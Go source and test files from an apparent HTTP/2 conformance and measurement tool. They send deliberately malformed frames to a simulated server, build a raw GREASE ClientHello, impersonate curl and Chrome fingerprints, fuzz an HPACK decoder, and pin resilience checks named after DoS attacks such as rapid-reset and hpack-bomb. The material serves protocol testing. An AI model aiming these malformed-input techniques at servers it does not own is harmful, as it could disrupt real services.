			return Fail, fmt.Sprintf("GOAWAY code %v, want FRAME_SIZE_ERROR", code)
		}
		return Fail, "3-byte PING tolerated"
	}
	return Pass, ""
}

func checkMaxFrameSizeInvalid(env *Env) (Verdict, string) {
	opts := h2conn.DefaultOptions()
	opts.Settings = []frame.Setting{{ID: frame.SettingMaxFrameSize, Val: 1024}}
	c, err := env.connect(opts)
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	ok, _ := env.waitGoAway(c, frame.ErrCodeProtocol, true)
	if !ok {
		return Fail, "SETTINGS_MAX_FRAME_SIZE=1024 accepted"
	}
	return Pass, ""
}

func checkDataFrameSizeLimit(env *Env) (Verdict, string) {
	// Advertise the default 16 KiB and verify no DATA frame exceeds it.
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	resp, err := c.FetchBody(h2conn.Request{Authority: env.Authority, Path: env.LargePath}, env.Timeout)
	if err != nil {
		return Skip, err.Error()
	}
	for _, n := range resp.DataFrameSizes {
		if n > frame.DefaultMaxFrameSize {
			return Fail, fmt.Sprintf("DATA frame of %d bytes against a %d limit", n, frame.DefaultMaxFrameSize)
		}
	}
	return Pass, ""
}

// awaitPingAck reports whether a PING ACK arrives within the timeout.
func awaitPingAck(env *Env, c *h2conn.Conn) bool {
	events, _ := c.WaitFor(env.Timeout, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypePing && e.IsAck() {
				return true
			}
		}
		return false
	})
	for _, e := range events {
		if e.Type == frame.TypePing && e.IsAck() {
			return true
		}
	}
	return false
}

func checkReservedBitIgnored(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	// A PING whose header sets the reserved bit over stream 0. The framer
	// writes the stream-ID field verbatim, so the bit reaches the wire; a
	// compliant receiver masks it off and answers the PING normally.
	if err := c.WriteRawFrame(frame.TypePing, 0, 1<<31, []byte{1, 2, 3, 4, 5, 6, 7, 8}); err != nil {
		return Skip, err.Error()
	}
	if !awaitPingAck(env, c) {
		return Fail, "no PING ACK after a reserved-bit frame"
	}
	if !env.fetchOK(c) {
		return Fail, "connection unusable after a reserved-bit frame"
	}
	return Pass, ""
}

func checkUndefinedFlagsIgnored(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	// Every flag bit except ACK (0x1) is undefined for PING; all of them
	// set at once must be ignored and the PING answered as usual.
	if err := c.WriteRawFrame(frame.TypePing, 0xFE, 0, []byte{8, 7, 6, 5, 4, 3, 2, 1}); err != nil {
		return Skip, err.Error()
	}
	if !awaitPingAck(env, c) {
		return Fail, "no PING ACK after undefined flag bits"
	}
	if !env.fetchOK(c) {
		return Fail, "connection unusable after undefined flag bits"
	}
	return Pass, ""
}

func checkDataPaddingExceedsPayload(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	id, err := c.OpenStream(h2conn.Request{Authority: env.Authority, Path: env.SmallPath})
	if err != nil {
		return Skip, err.Error()
	}
	// Pad Length 5 with a single octet of remaining payload.
	if err := c.WriteRawFrame(frame.TypeData, frame.FlagPadded, id, []byte{5, 'x'}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeProtocol, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want PROTOCOL_ERROR", code)
		}
		return Fail, "oversized DATA padding tolerated"
	}
	return Pass, ""
}

func checkRSTStreamBadLength(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	// The stream must be nonzero or the stream-0 protocol check fires
	// instead of the length check; use a stream the server has seen.
	id, err := c.OpenStream(h2conn.Request{Authority: env.Authority, Path: env.SmallPath})
	if err != nil {
		return Skip, err.Error()
	}
	if err := c.WriteRawFrame(frame.TypeRSTStream, 0, id, []byte{0, 0, 0}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeFrameSize, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want FRAME_SIZE_ERROR", code)
		}
		return Fail, "3-byte RST_STREAM tolerated"
	}
	return Pass, ""
}

func checkSettingsAckWithPayload(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if err := c.WriteRawFrame(frame.TypeSettings, frame.FlagAck, 0, []byte{0, 0, 0, 0, 0, 0}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeFrameSize, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want FRAME_SIZE_ERROR", code)
		}
		return Fail, "SETTINGS ACK with payload tolerated"
	}
	return Pass, ""
}

func checkWindowUpdateBadLength(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if err := c.WriteRawFrame(frame.TypeWindowUpdate, 0, 0, []byte{0, 0, 1}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeFrameSize, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want FRAME_SIZE_ERROR", code)
		}
		return Fail, "3-byte WINDOW_UPDATE tolerated"
	}
	return Pass, ""
}

func closeConn(c *h2conn.Conn) {
	_ = c.Close()
}

// Summary one-lines a result set.
func Summary(results []Result) string {
	return fmt.Sprintf("%d/%d checks passed%s", Passed(results), len(results), failSuffix(results))
}

func failSuffix(results []Result) string {
	fails := Failures(results)
	if len(fails) == 0 {
		return ""
	}
	return " (failed: " + strings.Join(fails, ", ") + ")"
}
