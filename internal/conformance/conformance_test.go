package conformance_test

import (
	"net"
	"strings"
	"testing"
	"time"

	"h2scope/internal/conformance"
	"h2scope/internal/core"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
	"h2scope/internal/tlsutil"
)

func newEnv(t *testing.T, p server.Profile) *conformance.Env {
	t.Helper()
	srv := server.New(p, server.DefaultSite("conf.example"))
	l := netsim.NewListener("conformance")
	go func() {
		_ = srv.Serve(l)
	}()
	// A second, TLS-wrapped listener on the same server backs the checks
	// that speak the record layer themselves (GREASE ClientHello).
	cert, err := tlsutil.SelfSignedCert("conf.example")
	if err != nil {
		t.Fatalf("cert: %v", err)
	}
	tl := netsim.NewListener("conformance-tls")
	go func() {
		_ = srv.Serve(tlsutil.NewFingerprintListener(tl, tlsutil.ServerConfig(cert, true)))
	}()
	t.Cleanup(srv.Close)
	return &conformance.Env{
		Dialer:         core.DialerFunc(func() (net.Conn, error) { return l.Dial() }),
		Authority:      "conf.example",
		Timeout:        5 * time.Second,
		ReactionWindow: 100 * time.Millisecond,
		TLSDialer:      core.DialerFunc(func() (net.Conn, error) { return tl.Dial() }),
		TLSServerName:  "conf.example",
	}
}

func TestSuiteAgainstCompliantProfiles(t *testing.T) {
	// The engine behind every profile implements the generic RFC rules, so
	// the suite must fully pass regardless of the profile's paper-level
	// behavior quirks.
	for _, p := range []server.Profile{server.ApacheProfile(), server.NginxProfile()} {
		p := p
		t.Run(p.Family, func(t *testing.T) {
			t.Parallel()
			results := conformance.RunSuite(newEnv(t, p))
			if len(results) != len(conformance.Suite()) {
				t.Fatalf("results = %d, want %d", len(results), len(conformance.Suite()))
			}
			for _, r := range results {
				if r.Verdict != conformance.Pass {
					t.Errorf("%s: %v (%s)", r.ID, r.Verdict, r.Detail)
				}
			}
			if got := conformance.Passed(results); got != len(results) {
				t.Errorf("Passed = %d", got)
			}
			if fails := conformance.Failures(results); len(fails) != 0 {
				t.Errorf("Failures = %v", fails)
			}
		})
	}
}

// TestFrameValidationChecks pins the frame-size, reserved-bit, and
// flag-validation checks: each must be in the suite, cover the expected RFC
// section, and pass against a compliant testbed server.
func TestFrameValidationChecks(t *testing.T) {
	results := conformance.RunSuite(newEnv(t, server.ApacheProfile()))
	byID := make(map[string]conformance.Result, len(results))
	for _, r := range results {
		byID[r.ID] = r
	}
	cases := []struct {
		id      string
		section string
	}{
		{"4.1/reserved-bit-ignored", "4.1"},
		{"4.1/undefined-flags-ignored", "4.1"},
		{"6.1/data-padding-exceeds-payload", "6.1"},
		{"6.4/rst-stream-bad-length", "6.4"},
		{"6.5/settings-ack-with-payload", "6.5.3"},
		{"6.5/settings-bad-length", "6.5"},
		{"6.7/ping-bad-length", "6.7"},
		{"6.9/window-update-bad-length", "6.9"},
	}
	for _, tc := range cases {
		t.Run(tc.id, func(t *testing.T) {
			r, ok := byID[tc.id]
			if !ok {
				t.Fatalf("check %s missing from suite", tc.id)
			}
			if r.Section != tc.section {
				t.Errorf("section = %q, want %q", r.Section, tc.section)
			}
			if r.Verdict != conformance.Pass {
				t.Errorf("verdict = %v (%s), want PASS", r.Verdict, r.Detail)
			}
		})
	}
}

func TestSuiteDetectsPingViolation(t *testing.T) {
	p := server.NginxProfile()
	p.AnswerPing = false
	results := conformance.RunSuite(newEnv(t, p))
	var found *conformance.Result
	for i := range results {
		if results[i].ID == "6.7/ping-ack-payload" {
			found = &results[i]
		}
	}
	if found == nil {
		t.Fatal("ping check missing from suite")
	}
	if found.Verdict != conformance.Fail {
		t.Errorf("ping check = %v, want FAIL for a non-acking server", found.Verdict)
	}
	if len(conformance.Failures(results)) == 0 {
		t.Error("Failures empty despite a violation")
	}
}

func TestRenderAndSummary(t *testing.T) {
	results := conformance.RunSuite(newEnv(t, server.H2OProfile()))
	out := conformance.Render(results)
	if !strings.Contains(out, "PASS") || !strings.Contains(out, "6.9/window-overflow-conn") {
		t.Errorf("render output:\n%s", out)
	}
	sum := conformance.Summary(results)
	if !strings.Contains(sum, "checks passed") {
		t.Errorf("summary = %q", sum)
	}
}

func TestVerdictString(t *testing.T) {
	if conformance.Pass.String() != "PASS" || conformance.Fail.String() != "FAIL" ||
		conformance.Skip.String() != "SKIP" {
		t.Error("verdict strings wrong")
	}
}

// TestAttackResilienceChecks pins the attack-battery checks: present in the
// suite, covering their sections, and passing against a compliant engine
// (whose protocol bounds are the defense under test — no detector attached).
func TestAttackResilienceChecks(t *testing.T) {
	results := conformance.RunSuite(newEnv(t, server.ApacheProfile()))
	cases := []struct {
		id      string
		section string
	}{
		{"attack/rapid-reset", "5.1"},
		{"attack/hpack-bomb", "4.3"},
		{"attack/continuation-bound", "6.10"},
		{"attack/settings-flood", "6.5"},
		{"attack/slow-drip", "6.1"},
		{"attack/zero-window", "6.9"},
	}
	byID := make(map[string]conformance.Result, len(results))
	for _, r := range results {
		byID[r.ID] = r
	}
	for _, tc := range cases {
		t.Run(tc.id, func(t *testing.T) {
			r, ok := byID[tc.id]
			if !ok {
				t.Fatalf("check %s missing from suite", tc.id)
			}
			if r.Section != tc.section {
				t.Errorf("section = %q, want %q", r.Section, tc.section)
			}
			if r.Verdict != conformance.Pass {
				t.Errorf("verdict = %v (%s), want PASS", r.Verdict, r.Detail)
			}
		})
	}
}

// TestFingerprintChecks pins the fingerprinting pair: both checks are in
// the suite and pass against a compliant testbed server.
func TestFingerprintChecks(t *testing.T) {
	results := conformance.RunSuite(newEnv(t, server.ApacheProfile()))
	want := map[string]bool{
		"9.2/grease-clienthello-alpn":        false,
		"6.5/settings-fingerprint-stability": false,
	}
	for _, r := range results {
		if _, ok := want[r.ID]; !ok {
			continue
		}
		want[r.ID] = true
		if r.Verdict != conformance.Pass {
			t.Errorf("%s: %v (%s)", r.ID, r.Verdict, r.Detail)
		}
	}
	for id, seen := range want {
		if !seen {
			t.Errorf("%s missing from suite", id)
		}
	}
}

// TestGREASECheckSkipsWithoutTLS pins the degraded mode: a cleartext-only
// env skips (not fails) the record-layer check.
func TestGREASECheckSkipsWithoutTLS(t *testing.T) {
	env := newEnv(t, server.ApacheProfile())
	env.TLSDialer = nil
	for _, r := range conformance.RunSuite(env) {
		if r.ID != "9.2/grease-clienthello-alpn" {
			continue
		}
		if r.Verdict != conformance.Skip {
			t.Errorf("verdict = %v (%s), want Skip", r.Verdict, r.Detail)
		}
		return
	}
	t.Fatal("check missing from suite")
}

// TestSettingsStabilityFlagsAdaptiveServer pins the enforcement edge: a
// server re-tuning SETTINGS by client fingerprint fails the stability
// check — unless the env declares the behavior intentional.
func TestSettingsStabilityFlagsAdaptiveServer(t *testing.T) {
	p := server.ApacheProfile()
	p.FingerprintAdaptive = true
	env := newEnv(t, p)
	find := func(results []conformance.Result) conformance.Result {
		for _, r := range results {
			if r.ID == "6.5/settings-fingerprint-stability" {
				return r
			}
		}
		t.Fatal("check missing from suite")
		return conformance.Result{}
	}
	if r := find(conformance.RunSuite(env)); r.Verdict != conformance.Fail {
		t.Errorf("undeclared adaptive server: verdict = %v (%s), want Fail", r.Verdict, r.Detail)
	}
	env2 := newEnv(t, p)
	env2.FingerprintAdaptive = true
	if r := find(conformance.RunSuite(env2)); r.Verdict != conformance.Pass {
		t.Errorf("declared adaptive server: verdict = %v (%s), want Pass", r.Verdict, r.Detail)
	}
}
