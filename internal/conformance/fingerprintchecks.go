package conformance

// Fingerprinting checks: the h2 ecosystem's clients ship ClientHellos full
// of GREASE values (RFC 8701), and middleboxes that choke on them break
// HTTP/2 adoption silently. The first check replays a GREASE-laden
// TLS 1.2-style hello raw and reads the plaintext ServerHello back: the
// server must still negotiate h2 via ALPN. The second guards the other
// direction — a server must not re-tune its SETTINGS by passive client
// fingerprint unless it declares that behavior (Env.FingerprintAdaptive),
// since fingerprint-conditional protocol parameters are exactly what the
// census's impersonation sweep exists to expose.

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"h2scope/internal/fingerprint"
	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// fingerprintChecks returns the fingerprinting checks appended to Suite.
func fingerprintChecks() []Check {
	return []Check{
		{
			ID:          "9.2/grease-clienthello-alpn",
			Section:     "9.2",
			Description: "a GREASE-laden ClientHello (RFC 8701) still negotiates h2 via ALPN",
			Run:         checkGREASEHelloNegotiatesH2,
		},
		{
			ID:          "6.5/settings-fingerprint-stability",
			Section:     "6.5",
			Description: "server SETTINGS do not vary by passive client fingerprint unless declared",
			Run:         checkSettingsFingerprintStability,
		},
	}
}

// greaseClientHello builds a TLS 1.2-style ClientHello with GREASE values
// injected into the cipher list, the extension list, and the named groups,
// offering ALPN h2. Staying at TLS 1.2 (no supported_versions extension)
// keeps the ServerHello's ALPN extension in plaintext, so the check can
// read the negotiation result without completing a handshake.
func greaseClientHello(serverName string) []byte {
	var body []byte
	be16 := func(v uint16) []byte { return binary.BigEndian.AppendUint16(nil, v) }

	body = append(body, 0x03, 0x03) // legacy_version TLS 1.2
	random := make([]byte, 32)
	for i := range random {
		random[i] = byte(i * 7)
	}
	body = append(body, random...)
	body = append(body, 0) // empty session_id

	ciphers := []uint16{
		0x0a0a, // GREASE
		0xc02b, // ECDHE_ECDSA_AES_128_GCM_SHA256
		0xc02c, // ECDHE_ECDSA_AES_256_GCM_SHA384
		0xc02f, // ECDHE_RSA_AES_128_GCM_SHA256
		0xc030, // ECDHE_RSA_AES_256_GCM_SHA384
		0xcca9, // ECDHE_ECDSA_CHACHA20_POLY1305
		0xcca8, // ECDHE_RSA_CHACHA20_POLY1305
	}
	body = append(body, be16(uint16(2*len(ciphers)))...)
	for _, cs := range ciphers {
		body = append(body, be16(cs)...)
	}
	body = append(body, 1, 0) // compression: null only

	var exts []byte
	ext := func(id uint16, data []byte) {
		exts = append(exts, be16(id)...)
		exts = append(exts, be16(uint16(len(data)))...)
		exts = append(exts, data...)
	}
	ext(0x1a1a, nil) // GREASE extension, empty body
	// server_name
	sni := append(be16(uint16(len(serverName)+3)), 0)
	sni = append(sni, be16(uint16(len(serverName)))...)
	sni = append(sni, serverName...)
	ext(0, sni)
	// supported_groups, GREASE first
	groups := []uint16{0x2a2a, 29, 23, 24}
	g := be16(uint16(2 * len(groups)))
	for _, gr := range groups {
		g = append(g, be16(gr)...)
	}
	ext(10, g)
	ext(11, []byte{1, 0}) // ec_point_formats: uncompressed
	// signature_algorithms
	sigs := []uint16{0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0603, 0x0806, 0x0601}
	s := be16(uint16(2 * len(sigs)))
	for _, sg := range sigs {
		s = append(s, be16(sg)...)
	}
	ext(13, s)
	// ALPN: h2, http/1.1
	var alpn []byte
	for _, proto := range []string{"h2", "http/1.1"} {
		alpn = append(alpn, byte(len(proto)))
		alpn = append(alpn, proto...)
	}
	ext(16, append(be16(uint16(len(alpn))), alpn...))

	body = append(body, be16(uint16(len(exts)))...)
	body = append(body, exts...)

	msg := append([]byte{1, byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body...)
	rec := append([]byte{0x16, 0x03, 0x01}, be16(uint16(len(msg)))...)
	return append(rec, msg...)
}

// serverHelloALPN reads TLS records from r until one complete ServerHello
// handshake message is assembled, and returns its ALPN selection ("" when
// the extension is absent). A fatal alert instead of a ServerHello is an
// error carrying the alert description.
func serverHelloALPN(r io.Reader) (string, error) {
	var hs []byte
	for len(hs) < 4 || len(hs) < 4+int(uint32(hs[1])<<16|uint32(hs[2])<<8|uint32(hs[3])) {
		hdr := make([]byte, 5)
		if _, err := io.ReadFull(r, hdr); err != nil {
			return "", fmt.Errorf("reading record header: %w", err)
		}
		payload := make([]byte, binary.BigEndian.Uint16(hdr[3:5]))
		if _, err := io.ReadFull(r, payload); err != nil {
			return "", fmt.Errorf("reading record body: %w", err)
		}
		switch hdr[0] {
		case 21: // alert
			if len(payload) >= 2 {
				return "", fmt.Errorf("TLS alert %d instead of ServerHello", payload[1])
			}
			return "", fmt.Errorf("truncated TLS alert")
		case 22: // handshake
			hs = append(hs, payload...)
		default:
			return "", fmt.Errorf("unexpected TLS record type %d", hdr[0])
		}
	}
	if hs[0] != 2 {
		return "", fmt.Errorf("handshake message type %d, want ServerHello", hs[0])
	}
	b := hs[4:]
	// legacy_version + random + session_id + cipher_suite + compression
	if len(b) < 35 {
		return "", fmt.Errorf("short ServerHello")
	}
	b = b[34:]
	sidLen := int(b[0])
	if len(b) < 1+sidLen+3 {
		return "", fmt.Errorf("short ServerHello")
	}
	b = b[1+sidLen+3:]
	if len(b) < 2 {
		return "", nil // no extensions block
	}
	extLen := int(binary.BigEndian.Uint16(b))
	b = b[2:]
	if extLen > len(b) {
		return "", fmt.Errorf("ServerHello extensions overflow")
	}
	b = b[:extLen]
	for len(b) >= 4 {
		id := binary.BigEndian.Uint16(b)
		n := int(binary.BigEndian.Uint16(b[2:]))
		if 4+n > len(b) {
			return "", fmt.Errorf("ServerHello extension %d overflows", id)
		}
		data := b[4 : 4+n]
		b = b[4+n:]
		if id != 16 {
			continue
		}
		if len(data) < 3 || int(data[2]) != len(data)-3 {
			return "", fmt.Errorf("malformed ServerHello ALPN extension")
		}
		return string(data[3:]), nil
	}
	return "", nil
}

func checkGREASEHelloNegotiatesH2(env *Env) (Verdict, string) {
	if env.TLSDialer == nil {
		return Skip, "no TLS endpoint configured"
	}
	hello := greaseClientHello(env.TLSServerName)
	// The canned hello must itself survive the fingerprint parser: the
	// same bytes the server sees are what /fp and the census fingerprint.
	if _, err := fingerprint.ParseClientHello(hello); err != nil {
		return Skip, fmt.Sprintf("canned hello unparseable: %v", err)
	}
	nc, err := env.TLSDialer.Dial()
	if err != nil {
		return Skip, err.Error()
	}
	defer nc.Close()
	_ = nc.SetDeadline(time.Now().Add(env.Timeout))
	if _, err := nc.Write(hello); err != nil {
		return Fail, fmt.Sprintf("writing GREASE hello: %v", err)
	}
	alpn, err := readServerHelloALPN(nc, env.Timeout)
	if err != nil {
		return Fail, fmt.Sprintf("GREASE hello rejected: %v", err)
	}
	if alpn != "h2" {
		return Fail, fmt.Sprintf("server negotiated %q, want h2", alpn)
	}
	return Pass, ""
}

// readServerHelloALPN bounds serverHelloALPN with a timeout, since
// simulated transports implement deadlines as no-ops.
func readServerHelloALPN(nc net.Conn, timeout time.Duration) (string, error) {
	type res struct {
		alpn string
		err  error
	}
	ch := make(chan res, 1)
	go func() {
		alpn, err := serverHelloALPN(nc)
		ch <- res{alpn, err}
	}()
	select {
	case r := <-ch:
		return r.alpn, r.err
	case <-time.After(timeout):
		return "", fmt.Errorf("no ServerHello within %v", timeout)
	}
}

func checkSettingsFingerprintStability(env *Env) (Verdict, string) {
	rendered := make([]string, 0, 2)
	worn := []*fingerprint.ClientProfile{fingerprint.CurlProfile(), fingerprint.ChromeProfile()}
	for _, p := range worn {
		opts := h2conn.DefaultOptions()
		opts.Impersonate = p
		c, err := env.connect(opts)
		if err != nil {
			return Skip, err.Error()
		}
		// The fetch forces any fingerprint-conditional re-tune: adaptive
		// servers emit their extra SETTINGS before the first response.
		if !env.fetchOK(c) {
			closeConn(c)
			return Skip, fmt.Sprintf("fetch as %s failed", p.Name)
		}
		rendered = append(rendered, renderServerSettingsFrames(c.Events()))
		closeConn(c)
	}
	if rendered[0] != rendered[1] {
		detail := fmt.Sprintf("SETTINGS vary by client fingerprint: %s saw %q, %s saw %q",
			worn[0].Name, rendered[0], worn[1].Name, rendered[1])
		if env.FingerprintAdaptive {
			return Pass, "declared adaptive; " + detail
		}
		return Fail, detail
	}
	return Pass, ""
}

// renderServerSettingsFrames flattens the server's non-ACK SETTINGS frames
// into a canonical comparison string: "id:val;id:val" per frame, frames
// joined by "+".
func renderServerSettingsFrames(events []h2conn.Event) string {
	var frames []string
	for _, e := range events {
		if e.Type != frame.TypeSettings || e.IsAck() {
			continue
		}
		pairs := make([]string, 0, len(e.Settings))
		for _, s := range e.Settings {
			pairs = append(pairs, fmt.Sprintf("%d:%d", uint16(s.ID), s.Val))
		}
		frames = append(frames, strings.Join(pairs, ";"))
	}
	return strings.Join(frames, "+")
}
