package hpack

import (
	"bytes"
	"encoding/hex"
	"strings"
	"testing"
)

// fuzzSeed decodes an RFC 7541 Appendix C hex vector for the seed corpus.
func fuzzSeed(s string) []byte {
	b, err := hex.DecodeString(strings.ReplaceAll(s, " ", ""))
	if err != nil {
		panic(err)
	}
	return b
}

// FuzzDecode feeds arbitrary header blocks to the decoder. DecodeFull must
// never panic, and its resource bounds must hold: no decoded string may
// exceed the configured maximum, the field count cannot exceed the input
// length (every representation costs at least one byte), and the dynamic
// table must stay within its size budget.
func FuzzDecode(f *testing.F) {
	// RFC 7541 Appendix C vectors: literals, indexed fields, Huffman
	// strings, and dynamic-table insertions/evictions.
	f.Add(fuzzSeed("400a 6375 7374 6f6d 2d6b 6579 0d63 7573 746f 6d2d 6865 6164 6572")) // C.2.1
	f.Add(fuzzSeed("8286 8441 0f77 7777 2e65 7861 6d70 6c65 2e63 6f6d"))                // C.3.1
	f.Add(fuzzSeed("8286 84be 5808 6e6f 2d63 6163 6865"))                               // C.3.2
	f.Add(fuzzSeed("8286 8441 8cf1 e3c2 e5f2 3a6b a0ab 90f4 ff"))                       // C.4.1
	f.Add(fuzzSeed("4882 6402 5885 aec3 771a 4b61 96d0 7abe 9410 54d4 44a8 2005 9504" +
		"0b81 66e0 82a6 2d1b ff6e 919d 29ad 1718 63c7 8f0b 97c8 e9ae 82ae 43d3")) // C.6.1
	f.Add(fuzzSeed("3fe1 1f"))                          // dynamic table size update
	f.Add(fuzzSeed("20"))                               // size update to zero
	f.Add(fuzzSeed("82ff ffff ffff ffff ffff"))         // runaway varint
	f.Add(fuzzSeed("0a6b 65 79"))                       // truncated literal
	f.Add(fuzzSeed("418c f1e3 c2e5 f23a 6ba0 ab90 f4")) // truncated Huffman string
	f.Add([]byte{})

	const (
		tableSize = 4096
		maxString = 16 << 10
	)
	f.Fuzz(func(t *testing.T, data []byte) {
		dec := NewDecoder(tableSize)
		dec.SetMaxStringLength(maxString)
		fields, err := dec.DecodeFull(data)
		_ = err // any error is acceptable; panics and bound violations are not
		for i, hf := range fields {
			if len(hf.Name) > maxString || len(hf.Value) > maxString {
				t.Fatalf("field %d exceeds max string length: name %d bytes, value %d bytes",
					i, len(hf.Name), len(hf.Value))
			}
		}
		if len(fields) > len(data) {
			t.Fatalf("decoded %d fields from %d input bytes", len(fields), len(data))
		}
		// Every dynamic-table entry costs its 32-byte RFC 7541 overhead, so
		// a 4096-byte table can never hold more than 128 entries.
		if n := dec.DynamicTableLen(); n > tableSize/32 {
			t.Fatalf("dynamic table holds %d entries, max possible is %d", n, tableSize/32)
		}
	})
}

// FuzzHpackEncode is the encode→decode round-trip identity check: whatever
// header list the encoder emits, under any indexing policy and across
// multiple blocks sharing one dynamic table, the decoder must reproduce it
// field-for-field. Divergence here is exactly the paper's nightmare case —
// both ends "work" but the measured header bytes mean something else.
func FuzzHpackEncode(f *testing.F) {
	f.Add(":method", "GET", "accept", "text/html", uint8(0), uint8(2))
	f.Add(":status", "200", "server", "nginx/1.10", uint8(1), uint8(1))
	f.Add("x-custom", strings.Repeat("v", 5000), "x-empty", "", uint8(2), uint8(3))
	f.Add("", "", "", "\x00\xff\x80", uint8(3), uint8(2))
	f.Fuzz(func(t *testing.T, name1, value1, name2, value2 string, policyByte, repeats uint8) {
		var enc *Encoder
		switch policyByte % 3 {
		case 0:
			enc = NewEncoder(PolicyIndexAll)
		case 1:
			enc = NewEncoder(PolicyNoDynamicInsert)
		default:
			enc = NewPartialEncoder(float64(policyByte)/255, uint32(policyByte))
		}
		dec := NewDecoder(DefaultDynamicTableSize)
		fields := []HeaderField{
			{Name: name1, Value: value1},
			{Name: name2, Value: value2},
			{Name: name1, Value: value2}, // repeated name exercises name-only index hits
		}
		n := int(repeats%4) + 1
		for block := 0; block < n; block++ {
			encoded := enc.EncodeBlock(fields)
			decoded, err := dec.DecodeFull(encoded)
			if err != nil {
				t.Fatalf("block %d: decode of our own encoding failed: %v\n% x", block, err, encoded)
			}
			if len(decoded) != len(fields) {
				t.Fatalf("block %d: %d fields in, %d out", block, len(fields), len(decoded))
			}
			for i := range fields {
				if decoded[i] != fields[i] {
					t.Fatalf("block %d field %d: sent %q=%q, decoded %q=%q",
						block, i, fields[i].Name, fields[i].Value, decoded[i].Name, decoded[i].Value)
				}
			}
		}
		if el, dl := enc.DynamicTableLen(), dec.DynamicTableLen(); el != dl {
			t.Fatalf("dynamic tables diverged: encoder %d entries, decoder %d", el, dl)
		}
	})
}

// FuzzHuffmanRoundTrip pits the table-driven Huffman decoder against the
// reference tree decoder. On arbitrary octets the two must agree exactly —
// same output bytes, same error-or-not — so any divergence in code-tree
// walking or EOS-padding validation (RFC 7541 §5.2) surfaces immediately.
// The same input reinterpreted as a plain string must also survive an
// encode→decode round trip.
func FuzzHuffmanRoundTrip(f *testing.F) {
	f.Add([]byte("www.example.com"))
	f.Add([]byte("no-cache"))
	f.Add(fuzzSeed("f1e3 c2e5 f23a 6ba0 ab90 f4ff")) // C.4.1 Huffman literal
	f.Add([]byte{0x07})                              // valid 3-bit padding
	f.Add([]byte{0x07, 0xff})                        // 11 bits of padding
	f.Add([]byte{0xfe})                              // non-EOS padding
	f.Add([]byte{0xff, 0xff, 0xff, 0xff})            // explicit EOS
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		table, tableErr := decodeHuffman(nil, data)
		tree, treeErr := decodeHuffmanTree(nil, data)
		if (tableErr != nil) != (treeErr != nil) {
			t.Fatalf("decoder disagreement on % x: table err = %v, tree err = %v",
				data, tableErr, treeErr)
		}
		if !bytes.Equal(table, tree) {
			t.Fatalf("decoder disagreement on % x: table = % x, tree = % x", data, table, tree)
		}
		enc := appendHuffman(nil, string(data))
		dec, err := decodeHuffman(nil, enc)
		if err != nil {
			t.Fatalf("decode of our own encoding failed: %v\ninput % x\nencoded % x", err, data, enc)
		}
		if !bytes.Equal(dec, data) {
			t.Fatalf("round trip mismatch: in % x, out % x", data, dec)
		}
	})
}
