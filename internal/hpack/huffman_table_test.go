package hpack

import (
	"bytes"
	"testing"
)

// TestHuffmanEOSPadding pins the RFC 7541 §5.2 padding rules in the table
// decoder: padding must be strictly shorter than 8 bits and consist only of
// the most-significant bits of the EOS code (all ones). Every case is also
// cross-checked against the reference tree decoder.
func TestHuffmanEOSPadding(t *testing.T) {
	cases := []struct {
		name    string
		in      []byte
		want    string
		wantErr bool
	}{
		{name: "empty input", in: nil, want: ""},
		// '0' is 00000 (5 bits); 3 one-bits of padding complete the octet.
		{name: "three ones padding", in: []byte{0x07}, want: "0"},
		// "00" is 10 bits of zeros; 6 one-bits of padding.
		{name: "six ones padding", in: []byte{0x00, 0x3f}, want: "00"},
		// '9' is 011111 (6 bits); 2 one-bits of padding.
		{name: "two ones padding", in: []byte{0x7f}, want: "9"},
		// '0' followed by padding 110: a zero bit inside the padding.
		{name: "zero bit in padding", in: []byte{0x06}, wantErr: true},
		// '0' padded with 3 ones, then a full octet of ones: 11 bits of
		// padding, more than the 7 the RFC allows.
		{name: "eight-plus bits of padding", in: []byte{0x07, 0xff}, wantErr: true},
		// 11111110 is no code and not an EOS prefix (it contains a zero).
		{name: "non-EOS seven-ones-then-zero", in: []byte{0xfe}, wantErr: true},
		// 32 one-bits contain the whole 30-bit EOS code; EOS in the stream
		// is a decoding error, not padding.
		{name: "explicit EOS", in: []byte{0xff, 0xff, 0xff, 0xff}, wantErr: true},
		// 16 one-bits: valid EOS prefix but twice the permitted length.
		{name: "two bytes of ones", in: []byte{0xff, 0xff}, wantErr: true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := decodeHuffman(nil, tc.in)
